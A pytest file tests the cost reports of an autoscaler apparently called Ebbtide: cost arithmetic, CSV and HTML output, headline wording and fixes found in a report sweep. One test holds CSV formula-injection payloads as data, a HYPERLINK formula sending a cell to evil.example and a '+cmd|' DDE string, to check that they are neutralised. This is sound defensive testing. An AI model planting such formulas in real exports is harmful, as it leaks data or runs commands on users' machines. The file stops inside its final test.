"""Finance reports (scaler/reporting): numbers, CSV, HTML.

Cases (a two-day hand-made timeline of the reference policy's `edge` workload, per-GB egress):
- compute per strategy and day equals the hand computation (pods x 24 h x (cores x price +
  GiB x price), rounded once per line); egress likewise (viewers x kbps x seconds / 8e6 GB);
- costs.csv has exactly CSV_COLUMNS, one row per strategy, day and cost object, and its column
  sums equal the report's totals per strategy;
- report.html parsed back (html.parser): every chart is an <img> with a decodable base64 PNG,
  no external resource is referenced, the headline holds the ebb's costs, the totals cells
  equal the CSV's sums, the glossary, the honest compute note and the reproduce command are there;
- headline wording: savings and their percentage against each baseline; a strategy that cost
  more is said to cost more;
- event windows: the event and its ebb, clipped to the data and flagged; an unknown --event-style
  focus is an error for people;
- PlanStats counts changes, guard ticks, guard interventions and trusted ticks of a plan list;
- RecordingPlanner records plans and the forecast held at each tick, averaged onto a timeline;
- compute savings are called potential unless realised, in the sentence and the HTML;
- finance sweep: CSV text cells a spreadsheet would run as formulas get a leading `'` (F1); chart
  text with `$...$` is drawn as written and a failed render leaves DIR as it was (F2); components
  not costed read "not costed", not 0.00 (F3); the replay's own quality figures are used when they
  cover the report, else the timeline's are said to be averages (F4); the caps caption states the
  policy's floors (F7); the headline says "potential" for compute savings (F8); the cumulative
  chart ends at the totals inside a day (F9); event names as written (F10); the replay's guard
  text does not contradict itself (F11).
"""

from __future__ import annotations

import base64
import csv
import math
import re
from collections import defaultdict
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from decimal import ROUND_HALF_UP, Decimal
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from forecaster.series import Forecast
from policies.errors import EbbtideError
from policies.events import Event
from policies.loading import load_policy
from scaler.costing import CSV_COLUMNS
from scaler.plans import Plan, PlannerMemory, Step, TrustedForecast
from scaler.reporting import (
    PlanStats,
    RecordingPlanner,
    ReportInput,
    build_report,
    event_windows,
    format_money,
    render_html,
    write_report,
)
from scaler.reporting.model import savings_sentence, video_quality_sentence

REFERENCE = Path(__file__).resolve().parents[1] / "policies" / "examples" / "reference.yaml"
T0 = datetime(2026, 11, 12, tzinfo=timezone.utc)
HOURS = 48
PODS = {"ebbtide": 2.0, "hpa": 3.0, "static": 5.0}
VIEWERS = 1000.0
CAP_KBPS = {"core": 3000.0, "silent": 1200.0, "edge": 700.0}


def money(x) -> Decimal:
    return Decimal(str(x)).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


@pytest.fixture(scope="module")
def policy():
    p = load_policy(REFERENCE)
    return p.model_copy(update={"cost": p.cost.model_copy(update={"egress_billing": "per_gb"})})


def make_input(policy, *, pods=PODS, events=(), compute_realised=False, focus=None, cap_kbps=CAP_KBPS) -> ReportInput:
    ts = pd.date_range(T0, periods=HOURS, freq="1h")
    frame = pd.DataFrame({"ts": ts.strftime("%Y-%m-%dT%H:%M:%SZ"), "demand": VIEWERS})
    for s, n in pods.items():
        frame[f"replicas_{s}"] = n
        frame[f"ready_{s}"] = n
    frame.loc[0, "ready_hpa"] = 0.0  # one hour with 1000 viewers and no ready server
    shares = {t.name: t.share for t in policy.bitrate.tiers}
    viewers = pd.DataFrame({t: np.full(HOURS, VIEWERS * s) for t, s in shares.items()})
    caps = pd.DataFrame({t: np.full(HOURS, k) for t, k in cap_kbps.items()})
    fc = pd.DataFrame({"yhat": np.full(HOURS, 900.0), "yhat_lower": 800.0, "yhat_upper": 1100.0})
    return ReportInput(workload=policy.workload("edge"), cost=policy.cost, timeline=frame,
                       strategies=tuple(pods), events=tuple(events), bitrate=policy.bitrate, tier_viewers=viewers,
                       caps_kbps=caps, forecast=fc, zone="UTC", compute_realised=compute_realised,
                       focus_event=focus, source="hand-made test timeline", command="ebbtide report --test")


SALE = Event(name="singles-day", kind="sale", start=T0 - timedelta(days=1), peak=T0 - timedelta(hours=12),
             end=T0 + timedelta(hours=6))


# --------------------------------------------------------------------------- numbers
def test_daily_compute_and_egress_match_hand_computation(policy):
    report = build_report(make_input(policy))
    res, cost = policy.workload("edge").resources, policy.cost
    per_pod_hour = (Decimal(str(res.cpu_cores)) * Decimal(str(cost.cpu_core_hour)),
                    Decimal(str(res.memory_gib)) * Decimal(str(cost.memory_gib_hour)))
    top = policy.bitrate.ladder[0].kbps
    for s, n in PODS.items():
        lines = report.daily[s].by_period()
        assert list(lines) == ["2026-11-12", "2026-11-13"]
        cpu = money(Decimal(str(n)) * 24 * per_pod_hour[0])
        ram = money(Decimal(str(n)) * 24 * per_pod_hour[1])
        # GB/day = sum over tiers viewers x kbps x 86400 s / 8 / 1e6
        kbps_viewers = sum(VIEWERS * t.share * (CAP_KBPS[t.name] if s == "ebbtide" else top)
                           for t in policy.bitrate.tiers)
        gb = Decimal(str(kbps_viewers)) * 86400 / 8 / 10**6
        egress = money(gb * Decimal(str(cost.egress_per_gb)))
        for day in lines.values():
            assert (day.cpu, day.ram, day.egress) == (cpu, ram, egress)
        assert report.totals()[s].total == 2 * (cpu + ram + egress)
    # the 3 tiers at their caps: 300x3000 + 450x1200 + 250x700 = 1,615,000 kbps -> 17,442 GB/day
    cdn = [r for r in report.daily["ebbtide"].rows() if r["controller_kind"] == "CDN"]
    assert [r["egress_gb"] for r in cdn] == [Decimal("17442.000000")] * 2


def test_demand_left_unserved_and_pod_hours(policy):
    report = build_report(make_input(policy))
    q = report.quality
    assert q["ebbtide"].pod_hours == pytest.approx(2 * 48)
    assert q["ebbtide"].unserved_share == 0.0
    # hpa: one hour of 1000 viewers without a ready server, out of 48 h x 1000
    assert q["hpa"].unserved_share == pytest.approx(1 / 48)
    assert q["hpa"].unserved_minutes == pytest.approx(60)


def test_forecast_accuracy_from_the_held_forecast(policy):
    report = build_report(make_input(policy, events=[SALE]))
    whole = report.accuracy[0].metrics
    assert whole.n_points == HOURS
    assert whole.wape == pytest.approx(0.1)  # |1000 - 900| / 1000
    assert whole.coverage == pytest.approx(1.0)  # 1000 <= 1100 everywhere


# --------------------------------------------------------------------------- headline
def test_headline_states_ebb_costs_and_savings(policy):
    report = build_report(make_input(policy, events=[SALE]))
    h = report.headline
    ebb = report.windows[-1]
    assert ebb.kind == "ebb" and ebb.clipped  # 14 days after the end, clipped to the 2 days of data
    assert (pd.Timestamp(ebb.start), pd.Timestamp(ebb.end)) == (pd.Timestamp(SALE.end), pd.Timestamp(T0) + pd.Timedelta(hours=48))
    ran = report.windowed["ebbtide"].by_period()[ebb.name].total
    static = report.windowed["static"].by_period()[ebb.name].total
    hpa = report.windowed["hpa"].by_period()[ebb.name].total
    assert h.ran == ran and h.saved["static"] == static - ran and h.saved["hpa"] == hpa - ran
    assert h.text.startswith(f"The singles-day ebb (Nov 12 to Nov 13, 2026, the part in the report) "
                             f"cost {format_money(ran, 'USD')}")
    assert f"keeping peak capacity would have cost {format_money(static, 'USD')}" in h.text
    assert f"plain autoscaling {format_money(hpa, 'USD')}" in h.text
    pct = float((static - ran) / static * 100)
    assert f"saved {format_money(static - ran, 'USD')} ({pct:.1f}%) against peak capacity" in h.text


def test_headline_says_cost_more_when_it_did(policy):
    uncapped = {t: 6000.0 for t in CAP_KBPS}  # same egress: only compute differs
    report = build_report(make_input(policy, pods={"ebbtide": 4.0, "hpa": 3.0}, events=[SALE], cap_kbps=uncapped))
    text = report.headline.text
    saved = report.headline.saved["hpa"]
    assert saved < 0
    assert f"cost {format_money(-saved, 'USD')} (" in text and "more than plain autoscaling." in text


def test_headline_without_events_covers_the_whole_period(policy):
    report = build_report(make_input(policy))
    assert report.headline.window is None
    assert report.headline.text.startswith("The period Nov 12 to Nov 13, 2026 cost ")
    assert report.headline.ran == report.totals()["ebbtide"].total


def test_event_windows_are_clipped_and_unknown_focus_is_an_error(policy):
    end = T0 + timedelta(hours=48)
    ws = event_windows([SALE], T0, end)
    assert [(w.name, w.kind, w.clipped) for w in ws] == [("singles-day event", "event", True),
                                                         ("singles-day ebb", "ebb", True)]
    assert pd.Timestamp(ws[0].start) == pd.Timestamp(T0) and pd.Timestamp(ws[0].end) == pd.Timestamp(SALE.end)
    later = Event(name="later", kind="sale", start=end + timedelta(days=1), peak=end + timedelta(days=1, hours=1),
                  end=end + timedelta(days=2))
    assert event_windows([later], T0, end) == []
    with pytest.raises(EbbtideError, match="event 'later' does not overlap"):
        build_report(make_input(policy, events=[later], focus="later"))


def test_savings_sentence_potential_or_realised(policy):
    potential = build_report(make_input(policy, events=[SALE]))
    realised = build_report(make_input(policy, events=[SALE], compute_realised=True))
    s = savings_sentence(potential.savings_daily["static"])
    assert "(potential)" in s and "become money only when" in s
    assert s.startswith("Over the whole report period, against ")  # not the headline's one-event span
    assert "(realised)" in savings_sentence(realised.savings_daily["static"])
    assert "So the compute part of the savings below is <em>potential</em>" in render_html(potential, charts=[])
    assert "compute savings count as\nrealised" in render_html(realised, charts=[])


# --------------------------------------------------------------------------- CSV and HTML
class _Parsed(HTMLParser):
    def __init__(self):
        super().__init__()
        self.imgs: list[dict] = []
        self.cells: dict[tuple[str, str], str] = {}
        self.ids: dict[str, str] = {}
        self.external: list[str] = []
        self._stack: list[tuple[str, dict]] = []
        self._text: defaultdict[str, list[str]] = defaultdict(list)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "img":
            self.imgs.append(a)
        for k in ("src", "href"):
            if k in a and not a[k].startswith("data:") and not a[k].startswith("#"):
                self.external.append(a[k])
        if tag in ("script", "link", "iframe"):
            self.external.append(tag)
        if "data-strategy" in a:
            self.cells[(a["data-strategy"], a["data-component"])] = a.get("data-value")
        self._stack.append((tag, a))

    def handle_endtag(self, tag):
        while self._stack:
            t, a = self._stack.pop()
            if t == tag:
                break

    def handle_data(self, data):
        for _, a in self._stack:
            if "id" in a:
                self._text[a["id"]].append(data)

    def text(self, id_: str) -> str:
        return " ".join("".join(self._text[id_]).split())


def test_csv_and_html_agree(policy, tmp_path):
    report = build_report(make_input(policy, events=[SALE]))
    files = write_report(report, tmp_path)
    with open(files.csv, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        rows = list(reader)
        assert tuple(reader.fieldnames) == CSV_COLUMNS
    # 3 strategies x 2 days x (edge Deployment, CDN, no transcoding)
    assert len(rows) == 3 * 2 * 2
    assert {(r["namespace"], r["controller_kind"], r["controller"]) for r in rows} == {
        ("live", "Deployment", "edge"), ("", "CDN", "cdn")}
    sums: dict[str, Decimal] = defaultdict(Decimal)
    for r in rows:
        parts = sum(Decimal(r[k]) for k in ("cpu_cost", "ram_cost", "egress_cost", "transcoding_cost"))
        assert Decimal(r["total_cost"]) == parts
        sums[r["strategy"]] += Decimal(r["total_cost"])
    parsed = _Parsed()
    parsed.feed(files.html.read_text(encoding="utf-8"))
    for s in PODS:
        assert sums[s] == report.totals()[s].total
        assert Decimal(parsed.cells[(s, "total")]) == sums[s]
    with open(files.events_csv, newline="", encoding="utf-8") as f:
        windows = {r["window"] for r in csv.DictReader(f)}
    assert windows == {"singles-day event", "singles-day ebb"}

    assert parsed.imgs and len(parsed.imgs) >= 4  # cost, demand, servers, bitrate caps
    for img in parsed.imgs:
        assert img["src"].startswith("data:image/png;base64,")
        png = base64.b64decode(img["src"].split(",", 1)[1])
        assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 5000
        assert img.get("alt")
    assert parsed.external == []  # one self-contained file
    assert parsed.text("headline") == report.headline.text
    assert format_money(report.headline.ran, "USD") in parsed.text("headline")
    assert parsed.text("command") == "ebbtide report --test"
    html = files.html.read_text(encoding="utf-8")
    for words in ("Glossary", "Server savings become money only when machines are released",
                  "How the numbers were computed", "Demand left unserved"):
        assert words in html


def test_inputs_of_the_wrong_length_are_errors_for_people(policy):
    inp = make_input(policy)
    bad = ReportInput(**{**inp.__dict__, "caps_kbps": inp.caps_kbps.iloc[:5]})
    with pytest.raises(EbbtideError, match="bitrate caps has 5 rows for a timeline of 48"):
        build_report(bad)
    missing = ReportInput(**{**inp.__dict__, "strategies": ("ebbtide", "keda")})
    with pytest.raises(EbbtideError, match="no replicas for keda"):
        build_report(missing)


# --------------------------------------------------------------------------- plans
def _plan(now, target, *, guard=False, guard_step=(3, 3), trusted=True, caps=None):
    from scaler.plans import TierCap

    bitrate = tuple(TierCap(t, r, 0.0) for t, r in caps) if caps else None
    return Plan("edge", now, 3, target, "scale", (Step("quality_guard", *guard_step, "why"),), PlannerMemory(),
                trusted, guard, True, bitrate)


def test_plan_stats_count_changes_guard_and_trust():
    plans = [
        _plan(T0, 3),
        _plan(T0, 3),  # no change
        _plan(T0, 4, guard=True, guard_step=(2, 4)),  # change; guard active and intervened
        _plan(T0, 4, guard=True, trusted=False),  # guard active, no intervention
        _plan(T0, 4, caps=[("edge", "480p")]),  # bitrate change
    ]
    assert PlanStats.of(plans) == PlanStats(ticks=5, changes=2, guard_ticks=2, guard_interventions=1,
                                            trusted_ticks=4)


def test_recording_planner_keeps_plans_and_the_forecast_held():
    idx = pd.date_range(T0, periods=4, freq="30min")
    frame = pd.DataFrame({"yhat": [10.0, 20, 30, 40], "yhat_lower": [5.0, 15, 25, 35],
                          "yhat_upper": [12.0, 24, 36, 48]}, index=idx)
    calls = []

    def planner(tf, obs, workload, policy, state, now):
        calls.append(now)
        return _plan(now, 3 + len(calls) // 2)

    rec = RecordingPlanner(planner)
    for k in range(4):  # ticks every 30 min; the held forecast's first bucket is the tick's
        now = T0 + timedelta(minutes=30 * k)
        fc = Forecast(frame.iloc[k:], "test")
        rec(TrustedForecast(fc, True), None, None, None, None, now)
    rec(TrustedForecast(None, False), None, None, None, None, T0 + timedelta(hours=2))
    assert len(rec.plans) == 5 and calls[-1] == T0 + timedelta(hours=2)
    assert [p.target_replicas for p in rec.changed_plans()] == [3, 4, 5]
    held = rec.forecast_on(pd.date_range(T0, periods=3, freq="1h"))
    assert held["yhat"].tolist()[:2] == [15.0, 35.0]  # mean of the two ticks in each hour
    assert held["yhat_upper"].tolist()[:2] == [18.0, 42.0]
    assert np.isnan(held["yhat"].iloc[2])  # the tick at 02:00 held no forecast


# --------------------------------------------------------------------------- like with like (report sweep)
def test_unknown_caps_are_costed_at_the_top_rung_so_they_save_nothing(policy):
    """11 hours of unknown caps cost what ran nothing while the baselines were charged: the
    savings counted hours nobody measured (25.8% instead of 12.7% in the sweep). Now they are
    costed at the ladder's top, as the baselines are, and a note says so."""
    base = make_input(policy)
    caps = base.caps_kbps.copy()
    caps.loc[10:20, "core"] = np.nan
    gapped = build_report(ReportInput(**{**base.__dict__, "caps_kbps": caps}))
    top = float(policy.bitrate.ladder[0].kbps)
    filled = caps.copy()
    filled.loc[10:20, "core"] = top
    by_hand = build_report(ReportInput(**{**base.__dict__, "caps_kbps": filled}))
    assert gapped.totals()["ebbtide"] == by_hand.totals()["ebbtide"]
    assert gapped.totals()["ebbtide"].egress > build_report(base).totals()["ebbtide"].egress
    assert any(n.startswith("bitrate caps unknown on 11 tier-interval(s): costed at the ladder's top rung")
               for n in gapped.notes)


def test_video_quality_says_what_each_tier_received_under_the_caps(policy):
    """The CDN and transcoding savings are a quality difference (the baselines stream the top rung
    to everyone): the report shows each tier's viewer-hours by the cap they ran under (a sweep
    found the demo's 66% saving against the HPA came from caps the report's quality section never
    showed)."""
    base = make_input(policy)
    caps, viewers = base.caps_kbps.copy(), base.tier_viewers.copy()
    caps.loc[24:, "core"] = 6000.0          # core: 720p for 24 h, then 1080p for 24 h
    caps.loc[10:20, "silent"] = np.nan      # silent: 11 h unknown, 1 h between two rungs, 36 h at 480p
    caps.loc[30, "silent"] = 2000.0
    viewers.loc[:11, "edge"] = 0.0          # edge: watched only from hour 12, all of it at 360p
    r = build_report(ReportInput(**{**base.__dict__, "caps_kbps": caps, "tier_viewers": viewers}))
    q = {t.tier: t for t in r.video_quality}
    assert dict(q["core"].by_rung) == pytest.approx({"1080p": 0.5, "720p": 0.5, "480p": 0, "360p": 0})
    assert dict(q["silent"].by_rung)["480p"] == pytest.approx(36 / 48)
    assert (q["silent"].unknown, q["silent"].between) == pytest.approx((11 / 48, 1 / 48))
    assert dict(q["edge"].by_rung)["360p"] == pytest.approx(1.0)
    share = {t.name: t.share for t in policy.bitrate.tiers}
    assert q["edge"].viewer_hours == pytest.approx(36 * VIEWERS * share["edge"])
    sentence = video_quality_sentence(r)
    assert "core 1080p 50%, 720p 50%" in sentence and "edge 360p 100%" in sentence
    assert "silent 480p 75%, between rungs 2%, unknown 23%" in sentence
    assert "The baselines stream 1080p to every viewer" in sentence
    html = render_html(r)
    table = html[html.index('<table id="video-quality">'):]
    table = table[:table.index("</table>")]
    assert "<th>capped at 1080p</th><th>capped at 720p</th>" in table and "cap unknown" in table
    assert "<td class=\"l\">core</td><td class=\"l\">720p</td>" in table  # the tier's HD floor
    assert "50.0%" in table and "75.0%" in table
    assert video_quality_sentence(build_report(ReportInput(**{**base.__dict__, "bitrate": None}))) is None


def test_hours_without_the_replicas_of_what_ran_are_left_out_of_every_strategy(policy):
    base = make_input(policy)
    frame = base.timeline.copy()
    frame.loc[0:5, "replicas_ebbtide"] = np.nan
    r = build_report(ReportInput(**{**base.__dict__, "timeline": frame}))
    res, cost = policy.workload("edge").resources, policy.cost
    per_pod_hour = Decimal(str(res.cpu_cores)) * Decimal(str(cost.cpu_core_hour))
    for s, n in PODS.items():  # 42 of 48 hours costed for every strategy
        assert r.totals()[s].cpu == money(Decimal(str(n)) * 42 * per_pod_hour)
    assert "6 h where the replicas of what ran are unknown: every strategy's compute is left out there" in \
        " ".join(r.notes)


def test_a_policy_without_bitrate_says_egress_and_transcoding_are_not_costed(policy):
    base = make_input(policy)
    r = build_report(ReportInput(**{**base.__dict__, "bitrate": None, "tier_viewers": None, "caps_kbps": None,
                                    "transcoded_streams": 400.0}))
    assert all(t.egress == 0 and t.transcoding == 0 for t in r.totals().values())
    assert any(n.startswith("CDN egress and transcoding not costed: the policy has no `bitrate` section")
               for n in r.notes)


def test_caps_between_rungs_under_bandwidth_billing_are_said_to_be_averages(policy):
    """A daily timeline holds each day's average cap; a bandwidth bill reads 5-minute samples,
    whose peak inside the row is unknown: billed at the top rung there (the sweep's daily
    timeline had claimed a 12% egress saving no sample could give), and said."""
    p95 = policy.model_copy(update={"cost": policy.cost.model_copy(update={"egress_billing": "monthly_p95"})})
    base = make_input(p95)
    caps = base.caps_kbps.copy()
    caps["core"] = (3000.0 * 17 + 1200.0 * 7) / 24  # between rungs: an average over the row
    r = build_report(ReportInput(**{**base.__dict__, "caps_kbps": caps}))
    assert any(n.startswith("48 of 48 intervals hold a cap between two rungs (a cap changed inside the 1h "
                            "interval") and "monthly_p95 billing reads 5-minute samples" in n for n in r.notes)
    top = caps.copy()
    top["core"] = float(policy.bitrate.ladder[0].kbps)  # billed at the top there: no saving claimed
    assert r.totals()["ebbtide"] == build_report(ReportInput(**{**base.__dict__, "caps_kbps": top})).totals()["ebbtide"]
    on_rungs = build_report(base)
    assert not any("between two rungs" in n for n in on_rungs.notes)
    per_gb = build_report(ReportInput(**{**make_input(policy).__dict__, "caps_kbps": caps}))
    assert not any("between two rungs" in n for n in per_gb.notes)  # a GB is a GB: the average is exact


def test_caps_between_rungs_transcode_every_rung_under_any_billing(policy):
    """Per GB the average cap bills the egress exactly, but the rungs produced in a row whose cap
    changed inside it are unknown: its average (4,500 kbps from 1080p half the hour, 720p the
    other half) counted 3 rungs where 4 ran, a transcoding saving that never happened."""
    base = make_input(policy)
    base = ReportInput(**{**base.__dict__, "transcoded_streams": 100.0})
    top_kbps = float(policy.bitrate.ladder[0].kbps)
    caps = base.caps_kbps.copy()
    caps["core"] = (top_kbps + float(policy.bitrate.ladder[1].kbps)) / 2
    r = build_report(ReportInput(**{**base.__dict__, "caps_kbps": caps}))
    at_top = caps.copy()
    at_top["core"] = top_kbps
    top = build_report(ReportInput(**{**base.__dict__, "caps_kbps": at_top}))
    assert r.totals()["ebbtide"].transcoding == top.totals()["ebbtide"].transcoding  # every rung counted
    assert r.totals()["ebbtide"].egress < top.totals()["ebbtide"].egress  # the GB of the average stay exact
    assert any("which rungs were transcoded there is unknown: transcoding is costed at every rung" in n
               for n in r.notes)


def test_rows_are_clipped_to_the_range_asked_for(policy):
    """Samples off the hour (12:02:53, as NAB's traces) made a one-day range bill slivers of the
    day before and after at a full daily peak. Rows are now clipped to [start, end)."""
    peak = policy.model_copy(update={"cost": policy.cost.model_copy(update={"egress_billing":
                                                                          "daily_peak_bandwidth"})})
    base = make_input(peak)
    off = base.timeline.copy()
    off["ts"] = (pd.to_datetime(off["ts"], utc=True) - pd.Timedelta(seconds=127)).dt.strftime("%Y-%m-%dT%H:%M:%SZ")
    day = (T0 + timedelta(days=1) - timedelta(hours=12), T0 + timedelta(days=1))  # 12:00 .. 24:00 of day 1
    r = build_report(ReportInput(**{**base.__dict__, "timeline": off, "start": day[0], "end": day[1]}))
    assert list(r.daily["ebbtide"].by_period()) == ["2026-11-12"]
    assert (pd.Timestamp(r.start), pd.Timestamp(r.end)) == (pd.Timestamp(day[0]), pd.Timestamp(day[1]))
    res, cost = peak.workload("edge").resources, peak.cost
    assert r.totals()["static"].cpu == money(5 * 12 * Decimal(str(res.cpu_cores)) * Decimal(str(cost.cpu_core_hour)))
    unclipped = build_report(ReportInput(**{**base.__dict__, "timeline": off}))
    assert list(unclipped.daily["ebbtide"].by_period()) == ["2026-11-11", "2026-11-12", "2026-11-13"]
    wide = build_report(ReportInput(**{**base.__dict__, "start": T0 - timedelta(days=1),
                                       "end": T0 + timedelta(days=5)}))
    assert [n for n in wide.notes if "the report covers the data only" in n] == [
        f"the data start at {pd.Timestamp(T0).isoformat()}, after the range's start "
        f"{pd.Timestamp(T0 - timedelta(days=1)).isoformat()}: the report covers the data only",
        f"the data end at {pd.Timestamp(T0 + timedelta(hours=HOURS)).isoformat()}, before the range's end "
        f"{pd.Timestamp(T0 + timedelta(days=5)).isoformat()}: the report covers the data only"]


def test_a_report_without_event_windows_removes_an_earlier_costs_by_event_csv(policy, tmp_path):
    assert write_report(build_report(make_input(policy, events=[SALE])), tmp_path).events_csv.is_file()
    files = write_report(build_report(make_input(policy)), tmp_path)  # no event: no windows
    assert files.events_csv is None and not (tmp_path / "costs_by_event.csv").exists()
    assert "costs_by_event.csv" not in files.html.read_text(encoding="utf-8")


# --------------------------------------------------------------------------- finance report sweep
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(policy, tmp_path):
    """F1: an event name went raw into costs_by_event.csv's `window` column, where Excel,
    LibreOffice and Google Sheets read `=HYPERLINK(...)` as a formula. Text cells starting with
    = + - @ TAB CR now get a leading apostrophe (OWASP); numbers (-5.00) are left as numbers."""
    from scaler.costing import csv_text

    evil = Event.model_construct(name='=HYPERLINK("evil.example/x?"&A1,"Click")', kind="sale", start=SALE.start,
                                 peak=SALE.peak, end=SALE.end, recurrence=None, ebb=None, lift=None)
    files = write_report(build_report(make_input(policy, events=[evil])), tmp_path)
    with open(files.events_csv, newline="", encoding="utf-8") as f:
        windows = {r["window"] for r in csv.DictReader(f)}
    assert windows == {"'" + evil.name + " event", "'" + evil.name + " ebb"}
    row = {k: "" for k in CSV_COLUMNS}
    for text in ("-2+3", "+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        out = list(csv.DictReader(csv_text([{**row, "window": text}])[0].splitlines(keepends=True)))
        assert out[0]["window"] == "'" + text
    negative = csv_text([{**row, "total_cost": Decimal("-5.00"), "window": "sale ebb"}])[0]
    assert ",-5.00," in negative and ",sale ebb," in negative


def test_chart_text_is_drawn_literally_and_a_failed_render_writes_nothing(policy, tmp_path, monkeypatch):
    """F2: a rung named `HD $\\notacommand$` crashed matplotlib's mathtext (a traceback, exit 1)
    after costs.csv had been rewritten next to the earlier report.html. Chart text is now drawn
    as written, and a report that cannot be rendered leaves DIR's earlier files untouched."""
    ladder = [policy.bitrate.ladder[0].model_copy(update={"name": "HD $\\notacommand$"}), *policy.bitrate.ladder[1:]]
    odd = policy.bitrate.model_copy(update={"ladder": ladder})
    base = make_input(policy)
    render_html(build_report(ReportInput(**{**base.__dict__, "bitrate": odd})))  # no ValueError

    write_report(build_report(make_input(policy, events=[SALE])), tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    import scaler.reporting.charts as charts

    def broken(report):
        raise ValueError("Unknown symbol: \\notacommand")

    monkeypatch.setattr(charts, "caps_chart", broken)
    with pytest.raises(EbbtideError, match=r"report: cannot draw the report's charts: ValueError: Unknown symbol"):
        write_report(build_report(make_input(policy, pods={"ebbtide": 1.0, "hpa": 3.0})), tmp_path)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before  # no new CSV beside the old HTML


def test_components_not_costed_read_not_costed_not_zero(policy):
    """F3: without a bitrate section (or --transcoded-streams) egress and transcoding showed as
    0.00 in every table and 'saved $0.00 on CDN egress and transcoding' in the sentence."""
    base = make_input(policy)
    r = build_report(ReportInput(**{**base.__dict__, "bitrate": None, "tier_viewers": None, "caps_kbps": None}))
    assert set(r.not_costed) == {"egress", "transcoding"}
    html = render_html(r, charts=[])
    parsed = _Parsed()
    parsed.feed(html)
    assert parsed.cells[("ebbtide", "egress")] is None and parsed.cells[("ebbtide", "transcoding")] is None
    assert "$0.00" not in parsed.text("totals")
    assert parsed.text("totals").count("not costed") == 6
    assert "Not costed: CDN egress (the policy has no `bitrate` section)" in parsed.text("not-costed")
    sentence = savings_sentence(r.savings_daily["static"], not_costed=r.not_costed)
    assert "on CDN egress" not in sentence and "CDN egress and transcoding not costed." in sentence
    assert sentence in parsed.text("savings-words")
    assert "CDN egress and transcoding savings move the bill directly" not in html
    assert r.headline.text.endswith("CDN egress and transcoding not costed.")
    assert "Simulated: recorded demand replayed through Ebbtide and each baseline" in r.headline.text
    streams = build_report(make_input(policy))  # a ladder but no transcoded streams: transcoding only
    assert list(streams.not_costed) == ["transcoding"]
    assert "it saved" in savings_sentence(streams.savings_daily["static"], not_costed=streams.not_costed)
    assert "on CDN egress (billed by use" in savings_sentence(streams.savings_daily["static"],
                                                           not_costed=streams.not_costed)


def test_quality_uses_the_replays_own_figures_when_they_cover_the_report(policy):
    """F4: from an hourly timeline the report said 0 minutes unserved where the replay, at every
    tick, had measured 152. The replay's figures are used when they cover the report's range; from
    a timeline alone the page says they are interval averages (at least)."""
    from scaler.reporting import QualityFigures

    base = make_input(policy)
    replay = {"ebbtide": QualityFigures(math.nan, 21, 0.000123, 31.5),
              "hpa": QualityFigures(math.nan, 19, 0.000674, 152), "static": QualityFigures(math.nan, 18, 0.000421, 100)}
    span = (T0, T0 + timedelta(hours=HOURS))
    r = build_report(ReportInput(**{**base.__dict__, "measured_quality": replay, "measured_span": span}))
    assert r.quality_measured
    assert (r.quality["hpa"].peak_pods, r.quality["hpa"].unserved_minutes) == (19, 152)
    assert r.quality["hpa"].pod_hours == pytest.approx(3 * 48)  # the timeline's, as the costs
    parsed = _Parsed()
    parsed.feed(render_html(r, charts=[]))
    assert "the replay's own, measured at every decision" in parsed.text("quality-note")
    other = build_report(ReportInput(**{**base.__dict__, "measured_quality": replay,
                                        "measured_span": (T0, T0 + timedelta(days=5))}))
    assert not other.quality_measured and other.quality["hpa"].unserved_minutes == pytest.approx(60)
    parsed = _Parsed()
    parsed.feed(render_html(other, charts=[]))
    assert "highest 60-minute average of servers" in parsed.text("quality")
    assert "can be lower than what viewers met" in parsed.text("quality-note")


def test_caps_caption_states_the_policys_floors(policy):
    """F7: the caption said 'core viewers always keep HD' whatever the policy's floors were."""
    from scaler.reporting.charts import caps_chart

    tiers = [t.model_copy(update={"hd_floor": policy.bitrate.ladder[-1].name}) for t in policy.bitrate.tiers]
    low = policy.bitrate.model_copy(update={"tiers": tiers})
    caption = caps_chart(build_report(ReportInput(**{**make_input(policy).__dict__, "bitrate": low}))).caption
    assert "always keep HD" not in caption and "always keep" not in caption
    assert f"core viewers never go below {policy.bitrate.ladder[-1].name}" in caption
    top = [t.model_copy(update={"hd_floor": policy.bitrate.ladder[0].name}) if t.name == "core" else t
           for t in policy.bitrate.tiers]
    kept = policy.bitrate.model_copy(update={"tiers": top})
    caption = caps_chart(build_report(ReportInput(**{**make_input(policy).__dict__, "bitrate": kept}))).caption
    assert f"core viewers always keep {policy.bitrate.ladder[0].name}" in caption


def test_headline_says_potential_when_the_saving_is_compute(policy):
    """F8: 'saved $223.82 (69.3%) against peak capacity' was all unrealised compute saving."""
    base = make_input(policy, events=[SALE])
    compute_only = build_report(ReportInput(**{**base.__dict__, "bitrate": None, "tier_viewers": None,
                                               "caps_kbps": None}))
    saved = compute_only.headline.saved["static"]
    pct = compute_only.headline.saved_pct["static"]
    assert (f"saved a potential {format_money(saved, 'USD')} ({pct:.1f}%) against peak capacity (all compute)"
            in compute_only.headline.text)
    assert "Compute savings are potential" in compute_only.headline.text
    realised = build_report(ReportInput(**{**compute_only.input.__dict__, "compute_realised": True}))
    assert "potential" not in realised.headline.text
    mixed = build_report(base)  # egress and compute both saved
    compute = (mixed.windowed["static"].by_period()[mixed.headline.window.name].compute
               - mixed.windowed["ebbtide"].by_period()[mixed.headline.window.name].compute)
    assert f"(of which {format_money(compute, 'USD')} potential, on compute)" in mixed.headline.text


def test_event_names_are_shown_as_written(policy):
    """F10: `STS-70 launch` was shown as `Sts 70 launch`, unlike the CSV."""
    launch = SALE.model_copy(update={"name": "STS-70 launch"})
    r = build_report(make_input(policy, events=[launch]))
    assert r.headline.text.startswith("The STS-70 launch ebb (")
    parsed = _Parsed()
    parsed.feed(render_html(r, charts=[]))
    assert "STS-70 launch: the ebb after it" in parsed.text("events") and "Sts" not in parsed.text("events")


def test_replay_guard_text_does_not_say_the_guard_cannot_fire(policy):
    """F11: 'the guard was active in 3 decisions ... so the guard cannot fire' contradicted itself."""
    inp = make_input(policy)
